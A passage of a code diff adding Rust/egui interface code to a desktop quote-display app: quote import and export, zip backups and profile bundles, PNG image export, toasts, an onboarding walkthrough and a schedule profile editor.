+    // A single collection keeps the plain quote array format; archived
+    // quotes are appended (or added as an "Archived" collection)
+    let json = if state.export_all_collections {
+        let mut collections = state.collections_snapshot();
+        if state.export_include_archived {
+            collections.push(Collection::new("Archived", state.archived.clone()));
+        }
+        serde_json::to_string_pretty(&collections)
+    } else {
+        let mut quotes = state.quotes.clone();
+        if state.export_include_archived {
+            quotes.extend(state.archived.iter().cloned());
+        }
+        serde_json::to_string_pretty(&quotes)
+    };
+    let result = json
+        .map_err(|e| e.to_string())
+        .and_then(|json| std::fs::write(&path, json).map_err(|e| e.to_string()));
+    match result {
+        Ok(()) => {
+            state.export_open = false;
+            state.push_toast(
+                ToastKind::Success,
+                format!("Exported quotes to {}", path.display()),
+            );
+        }
+        Err(err) => state.push_toast(ToastKind::Error, format!("Export failed: {err}")),
+    }
+}
+
+/// Ask where to save the TEXT LIST selection and write it as a quote array
+/// (the single-collection export format)
+fn pick_export_selected(state: &mut AppState) {
+    let quotes: Vec<&Quote> = state
+        .list_selection
+        .iter()
+        .filter_map(|&i| state.quotes.get(i))
+        .collect();
+    let Some(path) = rfd::FileDialog::new()
+        .add_filter("JSON", &["json"])
+        .set_file_name("quotes_selected.json")
+        .save_file()
+    else {
+        return;
+    };
+    let count = quotes.len();
+    let result = serde_json::to_string_pretty(&quotes)
+        .map_err(|e| e.to_string())
+        .and_then(|json| std::fs::write(&path, json).map_err(|e| e.to_string()));
+    match result {
+        Ok(()) => state.push_toast(
+            ToastKind::Success,
+            format!("Exported {} quote(s) to {}", count, path.display()),
+        ),
+        Err(err) => state.push_toast(ToastKind::Error, format!("Export failed: {err}")),
+    }
+}
+
+/// Ask where to save a backup of the current settings and write it there
+fn pick_backup_file(state: &mut AppState) {
+    let stamp = chrono::Local::now().format("%Y%m%d-%H%M%S");
+    let Some(path) = rfd::FileDialog::new()
+        .add_filter("Zip archive", &["zip"])
+        .set_file_name(format!("daily-motivation-backup-{}.zip", stamp))
+        .save_file()
+    else {
+        return;
+    };
+
+    match write_backup(&state.to_config(), &path) {
+        Ok(()) => state.push_toast(
+            ToastKind::Success,
+            format!("Saved backup to {}", path.display()),
+        ),
+        Err(err) => state.push_toast(ToastKind::Error, format!("Backup failed: {err}")),
+    }
+}
+
+/// Ask where to save a profile bundle and write it there
+fn pick_profile_export_file(state: &mut AppState) {
+    let stamp = chrono::Local::now().format("%Y%m%d-%H%M%S");
+    let Some(path) = rfd::FileDialog::new()
+        .add_filter("Zip archive", &["zip"])
+        .set_file_name(format!("daily-motivation-profile-{}.zip", stamp))
+        .save_file()
+    else {
+        return;
+    };
+
+    match write_profile_bundle(&state.to_config(), &path) {
+        Ok(()) => state.push_toast(
+            ToastKind::Success,
+            format!("Saved profile bundle to {}", path.display()),
+        ),
+        Err(err) => state.push_toast(ToastKind::Error, format!("Profile export failed: {err}")),
+    }
+}
+
+/// Ask for a profile bundle and stage it for the restore confirmation
+fn pick_profile_import_file(state: &mut AppState) {
+    let Some(path) = rfd::FileDialog::new()
+        .add_filter("Zip archive", &["zip"])
+        .pick_file()
+    else {
+        return;
+    };
+
+    match read_profile_bundle(&path) {
+        Ok(restore) => state.pending_restore = Some(restore),
+        Err(err) => state.push_toast(
+            ToastKind::Error,
+            format!("{} is not a usable profile bundle: {err}", path.display()),
+        ),
+    }
+}
+
+/// Ask for a backup archive and stage it for the restore confirmation
+fn pick_restore_file(state: &mut AppState) {
+    let Some(path) = rfd::FileDialog::new()
+        .add_filter("Zip archive", &["zip"])
+        .pick_file()
+    else {
+        return;
+    };
+
+    match read_backup(&path) {
+        Ok(restore) => state.pending_restore = Some(restore),
+        Err(err) => state.push_toast(
+            ToastKind::Error,
+            format!("{} is not a usable backup: {err}", path.display()),
+        ),
+    }
+}
+
+/// Ask for a JSON file (a quote array or an exported collection list) and
+/// stage its quotes for the import dialog
+fn pick_import_file(state: &mut AppState) {
+    let Some(path) = rfd::FileDialog::new()
+        .add_filter("JSON", &["json"])
+        .pick_file()
+    else {
+        return;
+    };
+
+    let quotes = std::fs::read_to_string(&path)
+        .map_err(|e| e.to_string())
+        .and_then(|text| {
+            serde_json::from_str::<Vec<Quote>>(&text)
+                .or_else(|_| {
+                    serde_json::from_str::<Vec<Collection>>(&text)
+                        .map(|cols| cols.into_iter().flat_map(|c| c.quotes).collect())
+                })
+                .map_err(|e| e.to_string())
+        });
+    match quotes {
+        Ok(quotes) if quotes.is_empty() => {
+            state.push_toast(ToastKind::Error, "No quotes found in that file");
+        }
+        Ok(quotes) => {
+            state.import_target = Some(state.active_collection);
+            state.pending_import = Some(quotes);
+        }
+        Err(err) => state.push_toast(ToastKind::Error, format!("Import failed: {err}")),
+    }
+}
+
+/// Dialog asking which collection staged imports should be merged into
+pub fn render_import_window(ctx: &Context, state: &mut AppState) {
+    let Some(count) = state.pending_import.as_ref().map(|q| q.len()) else {
+        return;
+    };
+
+    let mut open = true;
+    let mut confirmed = false;
+    let mut to_inbox = false;
+    egui::Window::new("Import Quotes")
+        .open(&mut open)
+        .collapsible(false)
+        .resizable(false)
+        .anchor(egui::Align2::CENTER_CENTER, Vec2::ZERO)
+        .frame(Frame::window(&ctx.style()).fill(Color32::from_white_alpha(15)))
+        .show(ctx, |ui| {
+            ui.label(format!("{} quotes found. Merge into:", count));
+            let selected_text = state
+                .import_target
+                .and_then(|idx| state.collections.get(idx))
+                .map(|c| c.name.clone())
+                .unwrap_or_else(|| "New collection".to_string());
+            egui::ComboBox::from_id_salt("import_target")
+                .selected_text(selected_text)
+                .show_ui(ui, |ui| {
+                    for (idx, collection) in state.collections.iter().enumerate() {
+                        ui.selectable_value(&mut state.import_target, Some(idx), &collection.name);
+                    }
+                    ui.selectable_value(&mut state.import_target, None, "New collection");
+                });
+            ui.add_space(10.0);
+            ui.horizontal(|ui| {
+                if ui.button("Import").clicked() {
+                    confirmed = true;
+                }
+                if ui
+                    .button("Review in INBOX")
+                    .on_hover_text("Hold them out of the rotation until each one is approved")
+                    .clicked()
+                {
+                    to_inbox = true;
+                }
+            });
+        });
+
+    if confirmed {
+        if let Some(quotes) = state.pending_import.take() {
+            state.import_quotes(state.import_target, quotes);
+        }
+    } else if to_inbox {
+        if let Some(quotes) = state.pending_import.take() {
+            state.inbox_target = state.import_target.unwrap_or(state.active_collection);
+            state.queue_pending(quotes);
+        }
+    } else if !open {
+        state.pending_import = None;
+    }
+}
+
+// =============================================================================
+// IMAGE EXPORT
+// =============================================================================
+
+/// Dialog for saving the current quote as a PNG image
+pub fn render_image_export_window(
+    ctx: &Context,
+    state: &mut AppState,
+    shaper: &mut Option<(
+        &mut cosmic_text::FontSystem,
+        &mut cosmic_text::SwashCache,
+        &mut HashMap<u64, egui::TextureHandle>,
+    )>,
+) {
+    if !state.image_export_open {
+        return;
+    }
+
+    let mut open = true;
+    let mut save_clicked = false;
+    egui::Window::new("Save as Image")
+        .open(&mut open)
+        .collapsible(false)
+        .resizable(false)
+        .anchor(egui::Align2::CENTER_CENTER, Vec2::ZERO)
+        .frame(Frame::window(&ctx.style()).fill(Color32::from_white_alpha(15)))
+        .show(ctx, |ui| {
+            ui.label(
+                RichText::new("Resolution:")
+                    .color(ui_fg(ui.visuals()))
+                    .strong(),
+            );
+            for preset in ImageExportPreset::ALL {
+                ui.radio_value(&mut state.image_export_preset, preset, preset.label());
+            }
+            ui.add_space(6.0);
+            ui.checkbox(&mut state.image_export_brackets, "HUD corner brackets");
+            ui.add_space(10.0);
+
+            let has_quote = state.current_quote().is_some();
+            if ui
+                .add_enabled(has_quote, egui::Button::new("💾 Save PNG…"))
+                .clicked()
+            {
+                save_clicked = true;
+            }
+        });
+
+    if !open {
+        state.image_export_open = false;
+    }
+    if !save_clicked {
+        return;
+    }
+
+    let Some((fs, sc, _)) = shaper else {
+        state.push_toast(
+            ToastKind::Error,
+            "Text shaping is unavailable, cannot export",
+        );
+        return;
+    };
+
+    let Some(path) = rfd::FileDialog::new()
+        .add_filter("PNG image", &["png"])
+        .set_file_name("quote.png")
+        .save_file()
+    else {
+        return;
+    };
+
+    let size = state.image_export_preset.size();
+    match export_quote_image(state, fs, sc, size, state.image_export_brackets, &path) {
+        Ok(()) => {
+            state.image_export_open = false;
+            state.push_toast(
+                ToastKind::Success,
+                format!("Saved image to {}", path.display()),
+            );
+        }
+        Err(err) => state.push_toast(ToastKind::Error, format!("Image export failed: {err}")),
+    }
+}
+
+/// Paint the current quote into a PNG at the given resolution.
+/// Everything is rasterized on the CPU, so text is shaped at export size
+/// instead of being upscaled from the on-screen textures.
+fn export_quote_image(
+    state: &AppState,
+    font_system: &mut cosmic_text::FontSystem,
+    swash_cache: &mut cosmic_text::SwashCache,
+    (width, height): (u32, u32),
+    brackets: bool,
+    path: &std::path::Path,
+) -> Result<(), String> {
+    let quote = state.current_quote().ok_or("no quote to export")?;
+    let mut img = image::RgbaImage::new(width, height);
+
+    // Background: same projection as the on-screen gradient mesh
+    if state.theme.mode == ThemeMode::Solid || state.theme.gradient_colors.is_empty() {
+        let c = state.theme.solid_color;
+        for px in img.pixels_mut() {
+            *px = image::Rgba([c.r(), c.g(), c.b(), 255]);
+        }
+    } else {
+        let angle_rad = (state.theme.gradient_angle as f32).to_radians();
+        let (dx, dy) = (angle_rad.cos(), angle_rad.sin());
+        let (cx, cy) = (width as f32 / 2.0, height as f32 / 2.0);
+        let extent = (cx * dx.abs() + cy * dy.abs()).max(0.1);
+        for (x, y, px) in img.enumerate_pixels_mut() {
+            let p = (x as f32 - cx) * dx + (y as f32 - cy) * dy;
+            let t = (p + extent) / (2.0 * extent);
+            let c = gradient_color_at(
+                &state.theme.gradient_colors,
+                t,
+                state.theme.gradient_interpolation,
+            );
+            *px = image::Rgba([c.r(), c.g(), c.b(), 255]);
+        }
+    }
+
+    // Scale from the on-screen sizes to the export resolution
+    let scale = width.min(height) as f32 / 360.0;
+    let wrap_width = width as f32 * 0.8;
+    let style = &state.text_style;
+
+    let main_text = style.main_transform.apply(&quote.main_text);
+    let (main_buffer, main_h) = shape_export_text(
+        font_system,
+        &main_text,
+        style.main_text_size * scale,
+        style.main_line_gap,
+        wrap_width,
+    );
+    let sub_text = expand_template(&quote.sub_text, &state.template_context());
+    let sub_text = style.sub_transform.apply(&sub_text);
+    let (sub_buffer, sub_h) = shape_export_text(
+        font_system,
+        &sub_text,
+        style.sub_text_size * scale,
+        style.sub_line_gap,
+        wrap_width,
+    );
+
+    let gap = if sub_h > 0.0 {
+        style.between_gap * scale
+    } else {
+        0.0
+    };
+    let block_h = main_h + gap + sub_h;
+    let x0 = ((width as f32 - wrap_width) / 2.0) as i32;
+    let y0 = ((height as f32 - block_h) / 2.0) as i32;
+
+    draw_export_text(
+        &mut img,
+        font_system,
+        swash_cache,
+        &main_buffer,
+        style.main_text_color,
+        x0,
+        y0,
+    );
+    draw_export_text(
+        &mut img,
+        font_system,
+        swash_cache,
+        &sub_buffer,
+        style.sub_text_color,
+        x0,
+        y0 + (main_h + gap) as i32,
+    );
+
+    if brackets {
+        let pad = 24.0 * scale;
+        let rect = Rect::from_min_max(
+            Pos2::new(x0 as f32 - pad, y0 as f32 - pad),
+            Pos2::new(x0 as f32 + wrap_width + pad, y0 as f32 + block_h + pad),
+        );
+        draw_export_brackets(
+            &mut img,
+            rect,
+            28.0 * scale,
+            (1.5 * scale).max(1.0),
+            state.theme.accent_primary,
+        );
+    }
+
+    img.save_with_format(path, image::ImageFormat::Png)
+        .map_err(|e| e.to_string())
+}
+
+/// Shape centered, wrapped text for export; returns the buffer and its height
+fn shape_export_text(
+    font_system: &mut cosmic_text::FontSystem,
+    text: &str,
+    font_size: f32,
+    line_gap: f32,
+    wrap_width: f32,
+) -> (cosmic_text::Buffer, f32) {
+    let metrics = cosmic_text::Metrics::new(font_size, font_size * line_gap.max(1.0));
+    let mut buffer = cosmic_text::Buffer::new(font_system, metrics);
+    buffer.set_size(font_system, Some(wrap_width), None);
+
+    let attrs = cosmic_text::Attrs::new().family(cosmic_text::Family::Name("Nirmala UI"));
+    buffer.set_text(font_system, text, attrs, cosmic_text::Shaping::Advanced);
+    for line in buffer.lines.iter_mut() {
+        line.set_align(Some(cosmic_text::Align::Center));
+    }
+    buffer.shape_until_scroll(font_system, false);
+
+    let height = buffer.layout_runs().map(|run| run.line_height).sum();
+    (buffer, height)
+}
+
+/// Alpha-blend a shaped buffer onto the export image at (x0, y0)
+fn draw_export_text(
+    img: &mut image::RgbaImage,
+    font_system: &mut cosmic_text::FontSystem,
+    swash_cache: &mut cosmic_text::SwashCache,
+    buffer: &cosmic_text::Buffer,
+    color: Color32,
+    x0: i32,
+    y0: i32,
+) {
+    let [r, g, b, a] = color.to_srgba_unmultiplied();
+    let text_color = cosmic_text::Color::rgba(r, g, b, a);
+    let (width, height) = (img.width() as i32, img.height() as i32);
+
+    buffer.draw(font_system, swash_cache, text_color, |x, y, w, h, drawn| {
+        let alpha = drawn.a() as f32 / 255.0;
+        if alpha <= 0.0 {
+            return;
+        }
+        for py in (y0 + y)..(y0 + y + h as i32) {
+            for px in (x0 + x)..(x0 + x + w as i32) {
+                if px < 0 || py < 0 || px >= width || py >= height {
+                    continue;
+                }
+                let dst = img.get_pixel_mut(px as u32, py as u32);
+                let src = [drawn.r(), drawn.g(), drawn.b()];
+                for (channel, src) in dst.0.iter_mut().zip(src) {
+                    *channel = (src as f32 * alpha + *channel as f32 * (1.0 - alpha)) as u8;
+                }
+            }
+        }
+    });
+}
+
+/// Draw HUD-style corner brackets around `rect`
+fn draw_export_brackets(
+    img: &mut image::RgbaImage,
+    rect: Rect,
+    arm: f32,
+    thickness: f32,
+    color: Color32,
+) {
+    let pixel = image::Rgba([color.r(), color.g(), color.b(), 255]);
+    let mut fill = |min: Pos2, max: Pos2| {
+        let x_end = (max.x.max(0.0) as u32).min(img.width());
+        let y_end = (max.y.max(0.0) as u32).min(img.height());
+        for y in (min.y.max(0.0) as u32)..y_end {
+            for x in (min.x.max(0.0) as u32)..x_end {
+                img.put_pixel(x, y, pixel);
+            }
+        }
+    };
+
+    let corners = [
+        (rect.left_top(), 1.0, 1.0),
+        (rect.right_top(), -1.0, 1.0),
+        (rect.left_bottom(), 1.0, -1.0),
+        (rect.right_bottom(), -1.0, -1.0),
+    ];
+    for (corner, sx, sy) in corners {
+        // Horizontal arm, then vertical arm
+        let h_end = Pos2::new(corner.x + sx * arm, corner.y + sy * thickness);
+        fill(corner.min(h_end), corner.max(h_end));
+        let v_end = Pos2::new(corner.x + sx * thickness, corner.y + sy * arm);
+        fill(corner.min(v_end), corner.max(v_end));
+    }
+}
+
+// =============================================================================
+// TOAST RENDERER
+// =============================================================================
+
+/// Small frame rate readout; when nothing has happened for a few seconds the
+/// idle rate should sit near one frame per second (shown green, rose if not)
+pub fn render_fps_overlay(ctx: &Context, state: &AppState) {
+    let fps = state.measured_fps();
+    let idle = state.last_interaction.elapsed() > Duration::from_secs(5)
+        && !state.needs_continuous_frames();
+    let (status, color) = match (idle, fps <= 1.5) {
+        (true, true) => ("idle ok", NEON_LIME),
+        (true, false) => ("idle too busy", NEON_ROSE),
+        (false, _) => ("active", NEON_CYAN),
+    };
+
+    egui::Area::new(egui::Id::new("fps_overlay"))
+        .order(egui::Order::Foreground)
+        .anchor(
+            egui::Align2::LEFT_TOP,
+            Vec2::new(8.0, TITLE_BAR_HEIGHT + 6.0),
+        )
+        .interactable(false)
+        .show(ctx, |ui| {
+            Frame::none()
+                .fill(Color32::from_black_alpha(160))
+                .rounding(4.0)
+                .inner_margin(egui::Margin::symmetric(8.0, 4.0))
+                .show(ui, |ui| {
+                    ui.label(
+                        RichText::new(format!("{:.1} fps · {}", fps, status))
+                            .font(FontId::monospace(11.0))
+                            .color(color),
+                    );
+                });
+        });
+}
+
+/// Modal explaining that settings.json could not be loaded at startup
+pub fn render_config_notice(ctx: &Context, state: &mut AppState) {
+    let Some(notice) = state.config_notice.as_ref() else {
+        return;
+    };
+
+    let mut dismissed = false;
+    egui::Window::new("Settings could not be loaded")
+        .collapsible(false)
+        .resizable(false)
+        .anchor(egui::Align2::CENTER_CENTER, Vec2::ZERO)
+        .frame(
+            Frame::window(&ctx.style())
+                .fill(ui_shade(&ctx.style().visuals, 220))
+                .stroke(Stroke::new(1.5, NEON_ROSE)),
+        )
+        .show(ctx, |ui| {
+            ui.set_max_width(360.0);
+            ui.label(RichText::new(notice).color(ui_fg(ui.visuals())).size(12.0));
+            ui.add_space(10.0);
+            if ui.button("OK").clicked() {
+                dismissed = true;
+            }
+        });
+
+    if dismissed {
+        state.config_notice = None;
+    }
+}
+
+// =============================================================================
+// ONBOARDING
+// =============================================================================
+
+use onboarding::OnboardingStep;
+
+/// First-run walkthrough over the main window. Steps run in `ALL` order, so a
+/// new one is a variant, a title and a body in `render_step`.
+mod onboarding {
+    use super::{
+        ui_fg, ui_shade, AppState, ThemeMode, CLICK_THROUGH_HOTKEY_LABEL, GRADIENT_PRESETS,
+        NEON_CYAN, QUICK_ADD_HOTKEY_LABEL,
+    };
+    use egui::{Color32, Context, Frame, RichText, Stroke, Vec2};
+
+    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
+    pub enum OnboardingStep {
+        Theme,
+        Quotes,
+        Gestures,
+    }
+
+    impl OnboardingStep {
+        pub const ALL: [OnboardingStep; 3] = [
+            OnboardingStep::Theme,
+            OnboardingStep::Quotes,
+            OnboardingStep::Gestures,
+        ];
+
+        pub fn title(self) -> &'static str {
+            match self {
+                OnboardingStep::Theme => "Pick a starting look",
+                OnboardingStep::Quotes => "Sample quotes",
+                OnboardingStep::Gestures => "Hidden gestures",
+            }
+        }
+
+        fn index(self) -> usize {
+            Self::ALL.iter().position(|s| *s == self).unwrap_or(0)
+        }
+
+        fn next(self) -> Option<Self> {
+            Self::ALL.get(self.index() + 1).copied()
+        }
+
+        fn prev(self) -> Option<Self> {
+            self.index().checked_sub(1).map(|i| Self::ALL[i])
+        }
+    }
+
+    // The cheat-sheet: what, and how
+    const GESTURES: [(&str, &str); 12] = [
+        ("Copy the quote", "Select the text, or right-click it"),
+        ("Edit a quote", "Right-click → Edit quote"),
+        ("Edit the sub text", "Right-click → Edit sub text"),
+        ("Resize", "Drag any window border"),
+        ("Size presets", "Right-click the maximize button"),
+        ("Title bar buttons", "Right-click the title bar"),
+        ("Stop animations", "Space"),
+        ("Window back home", "Ctrl+Home"),
+        ("Interface scale", "Ctrl+Shift+Plus / Minus"),
+        ("Quick add from anywhere", QUICK_ADD_HOTKEY_LABEL),
+        ("Click-through on / off", CLICK_THROUGH_HOTKEY_LABEL),
+        ("Frame rate overlay", "F3"),
+    ];
+
+    /// Draw the current step, if the walkthrough is open
+    pub fn render(ctx: &Context, state: &mut AppState) {
+        let Some(step) = state.onboarding else {
+            return;
+        };
+
+        let mut goto = Some(step);
+        let mut finished = false;
+        egui::Window::new("onboarding")
+            .title_bar(false)
+            .collapsible(false)
+            .resizable(false)
+            .anchor(egui::Align2::CENTER_CENTER, Vec2::ZERO)
+            .frame(
+                Frame::window(&ctx.style())
+                    .fill(ui_shade(&ctx.style().visuals, 230))
+                    .stroke(Stroke::new(1.5, state.theme.accents().primary)),
+            )
+            .show(ctx, |ui| {
+                ui.set_width(380.0);
+                ui.horizontal(|ui| {
+                    ui.label(
+                        RichText::new(step.title())
+                            .color(ui_fg(ui.visuals()))
+                            .strong()
+                            .size(15.0),
+                    );
+                    ui.with_layout(egui::Layout::right_to_left(egui::Align::Center), |ui| {
+                        ui.label(
+                            RichText::new(format!(
+                                "{} / {}",
+                                step.index() + 1,
+                                OnboardingStep::ALL.len()
+                            ))
+                            .color(Color32::GRAY)
+                            .size(10.5),
+                        );
+                    });
+                });
+                ui.add_space(8.0);
+
+                if render_step(ui, state, step) {
+                    goto = step.next();
+                }
+
+                ui.add_space(12.0);
+                ui.horizontal(|ui| {
+                    if ui.button("Skip").clicked() {
+                        finished = true;
+                    }
+                    ui.with_layout(egui::Layout::right_to_left(egui::Align::Center), |ui| {
+                        let next = step.next();
+                        let label = if next.is_some() { "Next" } else { "Done" };
+                        if ui.button(RichText::new(label).strong()).clicked() {
+                            match next {
+                                Some(next) => goto = Some(next),
+                                None => finished = true,
+                            }
+                        }
+                        if let Some(prev) = step.prev() {
+                            if ui.button("Back").clicked() {
+                                goto = Some(prev);
+                            }
+                        }
+                    });
+                });
+            });
+
+        if finished {
+            state.onboarding = None;
+            if !state.onboarding_done {
+                state.onboarding_done = true;
+                state.save();
+            }
+        } else {
+            state.onboarding = goto;
+        }
+    }
+
+    /// Body of `step`; true when a choice in it moves on to the next step
+    fn render_step(ui: &mut egui::Ui, state: &mut AppState, step: OnboardingStep) -> bool {
+        let mut advance = false;
+        let note = |ui: &mut egui::Ui, text: &str| {
+            ui.label(
+                RichText::new(text)
+                    .color(Color32::from_gray(190))
+                    .size(11.0),
+            );
+        };
+        match step {
+            OnboardingStep::Theme => {
+                note(ui, "You can change this later in the theme modal.");
+                ui.add_space(6.0);
+                for row in GRADIENT_PRESETS.chunks(2) {
+                    ui.horizontal(|ui| {
+                        for (name, colors, primary, secondary) in row {
+                            let chosen = state.theme.mode == ThemeMode::Gradient
+                                && state.theme.gradient_colors == colors.as_slice();
+                            if ui.selectable_label(chosen, *name).clicked() {
+                                state.theme.mode = ThemeMode::Gradient;
+                                state.theme.gradient_colors = colors.to_vec();
+                                state.theme.accent_primary = *primary;
+                                state.theme.accent_secondary = *secondary;
+                                state.save();
+                            }
+                        }
+                    });
+                }
+            }
+            OnboardingStep::Quotes => {
+                if state.quotes.is_empty() {
+                    note(
+                        ui,
+                        "Starting empty. Add quotes from ADD CUSTOM TEXT in the side panel; \
+                         the samples are in ARCHIVE if you want them back.",
+                    );
+                } else {
+                    note(
+                        ui,
+                        &format!(
+                            "The app comes with {} sample quotes. Keep them, or clear the \
+                             list and add your own.",
+                            state.quotes.len()
+                        ),
+                    );
+                    ui.add_space(6.0);
+                    ui.horizontal(|ui| {
+                        advance = ui.button("Keep the samples").clicked();
+                        if ui.button("Start empty").clicked() {
+                            state.clear_quotes();
+                        }
+                    });
+                }
+            }
+            OnboardingStep::Gestures => {
+                egui::Grid::new("onboarding_gestures")
+                    .num_columns(2)
+                    .spacing([14.0, 6.0])
+                    .show(ui, |ui| {
+                        for (what, how) in GESTURES {
+                            ui.label(RichText::new(what).color(ui_fg(ui.visuals())).size(11.0));
+                            ui.label(RichText::new(how).color(NEON_CYAN).size(11.0));
+                            ui.end_row();
+                        }
+                    });
+            }
+        }
+        advance
+    }
+}
+
+/// Hide the cursor once it has rested `cursor_hide_secs` over the bare
+/// quote area. Never while a button is held, the window is being resized,
+/// a modal is up, or something under the pointer changed the cursor (a
+/// link, a resize edge); the next movement brings it straight back.
+fn hide_idle_cursor(ctx: &Context, state: &AppState) {
+    if !state.cursor_autohide || state.manual_resize_start.is_some() || state.is_editing() {
+        return;
+    }
+    let Some(area) = state.quote_area else {
+        return;
+    };
+    let over_canvas = ctx.input(|i| i.pointer.hover_pos()).is_some_and(|pos| {
+        area.contains(pos) && ctx.layer_id_at(pos) == Some(egui::LayerId::background())
+    });
+    if !over_canvas
+        || ctx.is_using_pointer()
+        || ctx.input(|i| i.pointer.any_down())
+        || ctx.output(|o| o.cursor_icon) != egui::CursorIcon::Default
+    {
+        return;
+    }
+    let threshold = Duration::from_secs(state.cursor_hide_secs);
+    let idle = state.last_pointer_activity.elapsed();
+    if idle >= threshold {
+        ctx.set_cursor_icon(egui::CursorIcon::None);
+    } else {
+        ctx.request_repaint_after(threshold - idle);
+    }
+}
+
+/// Show pending toasts stacked in the bottom-right corner and drop expired ones
+pub fn render_toasts(ctx: &Context, state: &mut AppState) {
+    state.poll_saves();
+    // An unanswered reload prompt drops the file's version, as "Keep mine"
+    // would; the next save writes ours over it
+    if state
+        .toasts
+        .iter()
+        .any(|t| t.expired() && t.actions.contains(&ToastAction::LoadFile))
+    {
+        state.pending_reload = None;
+    }
+    state.toasts.retain(|t| !t.expired());
+    if state.toasts.is_empty() {
+        return;
+    }
+
+    let mut answered = None;
+    egui::Area::new(egui::Id::new("toasts"))
+        .order(egui::Order::Foreground)
+        .anchor(egui::Align2::RIGHT_BOTTOM, Vec2::new(-12.0, -36.0))
+        .interactable(state.toasts.iter().any(|t| !t.actions.is_empty()))
+        .show(ctx, |ui| {
+            for (idx, toast) in state.toasts.iter().enumerate() {
+                // Fade out over the last half second
+                let remaining = toast.duration.saturating_sub(toast.created.elapsed());
+                let fade = (remaining.as_secs_f32() / 0.5).min(1.0);
+                let accent = toast.kind.color();
+
+                Frame::none()
+                    .fill(ui_shade(ui.visuals(), (200.0 * fade) as u8))
+                    .stroke(Stroke::new(1.0, accent.gamma_multiply(0.6 * fade)))
+                    .rounding(4.0)
+                    .inner_margin(egui::Margin::symmetric(10.0, 6.0))
+                    .show(ui, |ui| {
+                        ui.set_max_width(320.0);
+                        ui.label(
+                            RichText::new(&toast.message)
+                                .color(ui_fg(ui.visuals()).gamma_multiply(fade))
+                                .size(12.0),
+                        );
+                        if !toast.actions.is_empty() {
+                            ui.horizontal(|ui| {
+                                for action in &toast.actions {
+                                    if ui
+                                        .button(RichText::new(action.label()).color(accent))
+                                        .clicked()
+                                    {
+                                        answered = Some((idx, *action));
+                                    }
+                                }
+                            });
+                        }
+                    });
+                ui.add_space(6.0);
+            }
+        });
+
+    if let Some((idx, action)) = answered {
+        state.toasts.remove(idx);
+        if let (ToastAction::OpenRelease, Some(release)) = (action, &state.available_update) {
+            ctx.open_url(egui::OpenUrl::new_tab(&release.url));
+        }
+        state.handle_toast_action(action);
+    }
+
+    ctx.request_repaint_after(Duration::from_millis(50));
+}
+
+// =============================================================================
+// PROFILE EDITOR RENDERER
+// =============================================================================
+
+/// Render the schedule profile editor window
+pub fn render_profile_editor(ctx: &Context, state: &mut AppState) {
+    if !state.profile_editor_open {
+        return;
+    }
+
+    let mut open = true;
+    let mut changed = false;
+    let mut to_remove: Option<usize> = None;
+
+    egui::Window::new("Schedule Profiles")
+        .open(&mut open)
+        .collapsible(false)
+        .resizable(false)
+        .anchor(egui::Align2::CENTER_CENTER, Vec2::new(0.0, 0.0))
+        .fixed_size(Vec2::new(420.0, 460.0))
+        .frame(egui::Frame::window(&ctx.style()).fill(Color32::from_white_alpha(15)))
+        .show(ctx, |ui| {
+            egui::ScrollArea::vertical()
+                .max_height(400.0)
+                .auto_shrink([false, true])
+                .show(ui, |ui| {
+                    let current_theme = state.global_theme();
+                    for (idx, profile) in state.profiles.iter_mut().enumerate() {
+                        egui::Frame::none()
+                            .fill(Color32::from_black_alpha(30))
+                            .stroke(Stroke::new(1.0, NEON_CYAN.gamma_multiply(0.2)))
+                            .inner_margin(Vec2::new(8.0, 8.0))
+                            .rounding(Rounding::same(4.0))
+                            .show(ui, |ui| {
+                                ui.horizontal(|ui| {
+                                    ui.label(
+                                        RichText::new("Name:").color(Color32::GRAY).size(11.0),
+                                    );
+                                    changed |= ui
+                                        .add(
+                                            egui::TextEdit::singleline(&mut profile.name)
+                                                .desired_width(140.0),
+                                        )
+                                        .changed();
+                                    ui.label(RichText::new("Tag:").color(Color32::GRAY).size(11.0));
+                                    changed |= ui
+                                        .add(
+                                            egui::TextEdit::singleline(&mut profile.tag)
+                                                .hint_text("all")
+                                                .desired_width(80.0),
+                                        )
+                                        .changed();
+                                });
+
+                                ui.horizontal(|ui| {
+                                    for (day, label) in ["Mo", "Tu", "We", "Th", "Fr", "Sa", "Su"]
+                                        .iter()
+                                        .enumerate()
+                                    {
+                                        if ui.selectable_label(profile.days[day], *label).clicked()
+                                        {
+                                            profile.days[day] = !profile.days[day];
+                                            changed = true;
                                         }
                                     }
+                                });
+
+                                ui.horizontal(|ui| {
+                                    ui.label(RichText::new("From").color(Color32::GRAY).size(11.0));
+                                    changed |= minute_of_day_edit(ui, &mut profile.start_minute);
+                                    ui.label(RichText::new("to").color(Color32::GRAY).size(11.0));
+                                    changed |= minute_of_day_edit(ui, &mut profile.end_minute);
+                                });
+
+                                ui.horizontal(|ui| {
+                                    ui.label(
+                                        RichText::new("Interval:").color(Color32::GRAY).size(11.0),
+                                    );
+                                    changed |= ui
+                                        .add(
+                                            egui::DragValue::new(&mut profile.interval_secs)
+                                                .range(0..=3600)
+                                                .suffix("s"),
+                                        )
+                                        .on_hover_text("0 keeps the global interval")
+                                        .changed();
+                                });
+
+                                ui.horizontal(|ui| {
+                                    ui.label(
+                                        RichText::new(if profile.theme.is_some() {
+                                            "Theme: custom"
+                                        } else {
+                                            "Theme: global"
+                                        })
+                                        .color(Color32::GRAY)
+                                        .size(11.0),
+                                    );
+                                    if ui.small_button("Use current theme").clicked() {
+                                        profile.theme = Some(current_theme.clone());
+                                        changed = true;
+                                    }
+                                    if profile.theme.is_some() && ui.small_button("Clear").clicked()
+                                    {
+                                        profile.theme = None;
+                                        changed = true;
+                                    }
+                                    ui.with_layout(
+                                        egui::Layout::right_to_left(egui::Align::Center),
+                                        |ui| {
+                                            let del_btn = ui.add(
+                                                egui::Button::new(
+                                                    RichText::new("Delete")
+                                                        .color(Color32::WHITE)
+                                                        .size(10.0),
+                                                )
+                                                .fill(Color32::from_rgb(255, 70, 70)),
+                                            );
+                                            if del_btn.clicked() {
+                                                to_remove = Some(idx);
+                                            }
+                                        },
+                                    );
+                                });
+                            });
+                        ui.add_space(6.0);
+                    }
+
+                    if ui.button("+ New Profile").clicked() {
+                        state.profiles.push(Profile::default());
+                        changed = true;
+                    }
+                });
+        });
+
+    if let Some(idx) = to_remove {
+        state.remove_profile(idx);
+    } else if changed {
+        state.refresh_profile();
+        state.save();
+    }
+    if !open {
+        state.profile_editor_open = false;
+    }
+}
+
+/// HH:MM editor for a minutes-since-midnight value; returns true when changed
